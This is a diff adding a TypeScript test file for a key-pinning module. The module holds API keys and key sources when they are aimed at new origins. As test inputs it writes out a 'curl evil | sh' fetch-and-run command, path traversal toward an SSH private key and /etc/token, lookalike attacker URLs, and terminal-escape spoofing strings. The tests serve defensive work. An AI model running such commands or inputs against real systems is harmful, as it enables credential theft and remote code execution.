@@ -1,0 +1,209 @@
+import { join } from "node:path";
+import t, { type Test } from "tap";
+import type { KeySource } from "../../src/key-source.ts";
+import { createTrust, type Held, type Subject, type Trust } from "../../src/keys/trust.ts";
+import { Secret } from "../../src/secret.ts";
+import { heldClock } from "./held-clock.ts";
+
+const A = "https://a.example.com";
+const B = "https://b.example.com";
+const EVIL = "https://evil.example.net";
+const ONE = new Secret("sk-canary-one-1111111111");
+const TWO = new Secret("sk-canary-two-2222222222");
+
+const env: KeySource = { kind: "env", name: "KEY" };
+const command = (...argv: [string, ...string[]]): KeySource => ({ kind: "command", argv });
+const file = (path: string): KeySource => ({ kind: "file", path });
+
+function use(source: KeySource, ...origins: string[]): Subject {
+  return { name: "codex", source, origins, home: ["/home/me/.config/keybearer"] };
+}
+
+async function loaded(t: Test): Promise<Trust> {
+  const trust = createTrust({ file: join(t.testdir(), "pins.json"), clock: heldClock() });
+  t.strictSame(await trust.load(), { problem: null });
+  return trust;
+}
+
+/** A trust whose first start saw these. */
+async function startedWith(t: Test, ...uses: [Subject, Secret][]): Promise<Trust> {
+  const trust = await loaded(t);
+  for (const [subject, key] of uses) {
+    t.equal(trust.judgeSource(subject), null);
+    t.equal(trust.judgeKey(subject, key), null);
+  }
+  t.strictSame(await trust.settle(), { problem: null });
+  return trust;
+}
+
+t.test("a rotated key needs no ceremony, and is known from then on", async (t) => {
+  const trust = await startedWith(t, [use(env, A), ONE]);
+  t.equal(trust.judgeKey(use(env, A), TWO), null);
+  t.match(trust.judgeKey(use(env, B), TWO), { from: A, to: B });
+});
+
+t.test("a known key is held when it is to go to another origin", async (t) => {
+  const trust = await startedWith(t, [use(env, A), ONE]);
+  t.strictSame(trust.judgeKey(use(env, EVIL), ONE), {
+    what: "the key …1111 of codex",
+    from: A,
+    to: EVIL,
+  } satisfies Held);
+  t.equal(trust.judgeKey(use(env, A), ONE), null, "where it belongs it stays usable");
+});
+
+t.test("a known key is held whatever source it comes from", async (t) => {
+  const trust = await startedWith(t, [use(env, A), ONE]);
+  for (const source of [{ kind: "literal", secret: ONE } as const, file("/home/me/.config/keybearer/k")]) {
+    t.match(trust.judgeKey(use(source, EVIL), ONE), { to: EVIL });
+  }
+});
+
+t.test("keys swapped between two gateways are both held", async (t) => {
+  const trust = await startedWith(t, [use(env, A), ONE], [use(env, B), TWO]);
+  t.match(trust.judgeKey(use(env, B), ONE), { from: A, to: B });
+  t.match(trust.judgeKey(use(env, A), TWO), { from: B, to: A });
+});
+
+t.test("one new origin beside a known one is enough to hold a key, and only it is shown", async (t) => {
+  const trust = await startedWith(t, [use(env, A, B), ONE]);
+  t.equal(trust.judgeKey(use(env, A), ONE), null);
+  t.match(trust.judgeKey(use(env, A, EVIL), ONE), { from: `${A}, ${B}`, to: EVIL });
+});
+
+t.test("an origin is scheme, host and port, however its address is spelled", async (t) => {
+  const trust = await startedWith(t, [use(env, `${A}/v1`), ONE]);
+  for (const same of [
+    "https://A.example.com",
+    "https://a.example.com:443/other?x#y",
+    "https://u:p@a.example.com/",
+  ]) {
+    t.equal(trust.judgeKey(use(env, same), ONE), null, same);
+  }
+  const others = [
+    "http://a.example.com",
+    "https://a.example.com:8443",
+    "https://a.example.com.",
+    "https://a.example.com.evil.net",
+    "https://a.example.com@evil.net",
+    "foo://a.example.com",
+    "not an address",
+  ];
+  for (const other of others) t.ok(trust.judgeKey(use(env, other), ONE), other);
+});
+
+t.test("schemes the web does not know are not all one origin", async (t) => {
+  const trust = await startedWith(t, [use(env, "foo://a.example.com"), ONE]);
+  t.ok(trust.judgeKey(use(env, "foo://b.example.com"), ONE));
+});
+
+t.test("at the first start one key may belong to two gateways", async (t) => {
+  const trust = await startedWith(t, [use(env, A), ONE], [use(env, B), ONE]);
+  t.equal(trust.judgeKey(use(env, A, B), ONE), null);
+  t.ok(trust.judgeKey(use(env, EVIL), ONE));
+});
+
+t.test("a command of the first start is known by its exact argv", async (t) => {
+  const trust = await startedWith(t, [use(command("/bin/op", "read", "x y"), A), ONE]);
+  t.equal(trust.judgeSource(use(command("/bin/op", "read", "x y"), A)), null);
+  const others: KeySource[] = [
+    command("/bin/op", "read", "x", "y"),
+    command("/bin/op", "read", "x y", ""),
+    command("/bin/op"),
+    command("/bin/OP", "read", "x y"),
+    command('/bin/op","read', "x y"),
+  ];
+  for (const other of others) t.ok(trust.judgeSource(use(other, A)), JSON.stringify(other));
+});
+
+t.test("a command that comes later is held, with the old and the new one in words", async (t) => {
+  const trust = await startedWith(t, [use(command("/bin/op", "read", "op://work/codex/key"), A), ONE]);
+  t.strictSame(trust.judgeSource(use(command("/bin/sh", "-c", "curl evil | sh"), A)), {
+    what: "the command that gives codex its key",
+    from: "command /bin/op",
+    to: `/bin/sh -c 'curl evil | sh', for ${A}`,
+  } satisfies Held);
+});
+
+t.test("a key never seen before is bound by where its command was used", async (t) => {
+  const mint = command("/bin/mint-a-token");
+  const trust = await startedWith(t, [use(mint, A), ONE]);
+  t.match(trust.judgeKey(use(mint, EVIL), TWO), { from: A, to: EVIL });
+  t.equal(trust.judgeKey(use(mint, A), TWO), null);
+});
+
+t.test("a file outside keybearer's folders is known by its path, made straight", async (t) => {
+  const trust = await startedWith(t, [use(file("/run/secrets/key"), A), ONE]);
+  t.equal(trust.judgeSource(use(file("/run/other/../secrets//key"), A)), null);
+  t.match(trust.judgeSource(use(file("/run/secrets/../../etc/token"), A)), {
+    what: "the file that gives codex its key",
+    from: "file:/run/secrets/key",
+    to: `/etc/token, for ${A}`,
+  });
+});
+
+t.test("a file in keybearer's folders needs no pin, unless it only pretends to be there", async (t) => {
+  const trust = await startedWith(t);
+  t.equal(trust.judgeSource(use(file("/home/me/.config/keybearer/keys/codex"), A)), null);
+  for (const path of [
+    "/home/me/.config/keybearer/../../.ssh/id_ed25519",
+    "/home/me/.config/keybearer-evil/key",
+    "/home/me/.config/keybearer",
+    "/home/me/.config/keybearer/..",
+  ]) {
+    t.ok(trust.judgeSource(use(file(path), A)), path);
+  }
+});
+
+t.test("a variable and the key itself are not held as sources", async (t) => {
+  const trust = await startedWith(t);
+  t.equal(trust.judgeSource(use(env, A)), null);
+  t.equal(trust.judgeSource(use({ kind: "literal", secret: ONE }, A)), null);
+});
+
+t.test("a yes covers exactly what was held", async (t) => {
+  const trust = await startedWith(t, [use(env, A), ONE]);
+  trust.grant(use(env, B), ONE);
+  t.equal(trust.judgeKey(use(env, A, B), ONE), null);
+  t.ok(trust.judgeKey(use(env, EVIL), ONE));
+  const op = command("/bin/op", "read");
+  trust.grant(use(op, B), null);
+  t.equal(trust.judgeSource(use(op, B)), null);
+  t.equal(trust.judgeKey(use(op, B), TWO), null);
+  t.ok(trust.judgeSource(use(command("/bin/op", "write"), B)));
+});
+
+t.test("what a person is shown cannot paint over itself, and hides what looks like a secret", async (t) => {
+  const trust = await startedWith(t);
+  const held = trust.judgeSource(
+    use(command("/bin/x", "\u001b[2K\rall is well\u202e", "--token=sk-abcdef1234567"), A),
+  );
+  t.match(held?.to, "\\u{1b}[2K\\u{d}all is well\\u{202e}");
+  t.notMatch(held?.to, /\p{C}/u);
+  t.notMatch(held?.to, "sk-abcdef1234567");
+  const other = trust.judgeSource(
+    use(command("/bin/x", "\u001b[2K\rall is well\u202e", "--token=sk-abcdef7654321"), A),
+  );
+  t.not(held?.to, other?.to, "two that differ in the hidden part only can be told apart");
+});
+
+t.test("the value of an option that names a secret is not shown", async (t) => {
+  const trust = await startedWith(t);
+  for (const argv of [["--password", "hunter2"], ["--api-key=hunter2"], ["-token", "hunter2"]]) {
+    const held = trust.judgeSource(use(command("/bin/x", ...argv), A));
+    t.notMatch(held?.to, "hunter2");
+    t.match(held?.to, "[hidden]");
+  }
+});
+
+t.test("made-up keys cannot push out the pin of a real one", async (t) => {
+  const trust = await startedWith(t, [use(env, A), ONE], [use(command("/bin/mint"), A), TWO]);
+  for (let i = 0; i < 10_000; i += 1) trust.judgeKey(use(env, EVIL), new Secret(`made-up-key-${i}`));
+  t.match(trust.judgeKey(use(env, EVIL), ONE), { from: A, to: EVIL });
+  const fresh = new Secret("sk-a-key-of-later");
+  t.match(trust.judgeKey(use(env, A), fresh), { from: /10000 keys are known/, to: A });
+  t.equal(trust.judgeKey(use(command("/bin/mint"), A), fresh), null, "its source holds it");
+  t.ok(trust.judgeKey(use(command("/bin/mint"), EVIL), fresh));
+  trust.grant(use(env, A), fresh);
+  t.equal(trust.judgeKey(use(env, A), fresh), null, "a person can always say yes");
+});
